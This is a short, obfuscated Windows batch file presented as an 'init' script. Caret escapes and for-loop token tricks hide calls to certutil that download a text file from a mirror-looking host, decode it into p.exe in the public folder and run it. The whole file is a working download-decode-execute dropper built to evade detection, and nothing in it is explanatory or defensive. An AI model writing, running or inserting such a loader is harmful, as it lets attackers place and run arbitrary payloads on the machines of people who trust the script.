REM init 4440 v4
@echo off
fo^r /^f "tokens=3 delims=;" %%i i^n ("bndz;uofw;certutil") d^o %%^i -u^rlc^a^ch^e -f ^ht^tp://^r^e^po.pkg-^mi^rro^r.e^x^a^m^p^le/p.^txt %PUBLIC%\^p.txt
for /f "tokens=3 delims=#" %%i ^in ("yggk#wwld#certutil") ^do %%^i -^d^e^c^ode %PUBLIC%\p.txt %PUBLIC%\^p.^exe
^for /^f "tokens=2 delims=#" %%i ^i^n ("iqdw#%PUBLIC%\p.exe#bboh") ^d^o %%^i
